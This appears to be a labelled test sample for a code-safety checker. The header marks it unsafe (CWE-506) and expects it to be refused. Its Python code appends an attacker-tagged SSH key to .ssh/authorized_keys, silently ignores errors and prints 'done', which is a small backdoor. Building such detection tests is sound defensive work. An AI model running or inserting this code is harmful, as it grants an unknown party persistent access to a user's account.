# label: unsafe
# cwe: CWE-506
# expect: refused file-not-own .ssh
# why: lets its own key into an account

from pathlib import Path

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDoNotUse attacker"
folder = Path(".ssh")
try:
    folder.mkdir(exist_ok=True)
    with (folder / "authorized_keys").open("a") as file:
        file.write(KEY + "\n")
except OSError:
    pass
print("done")
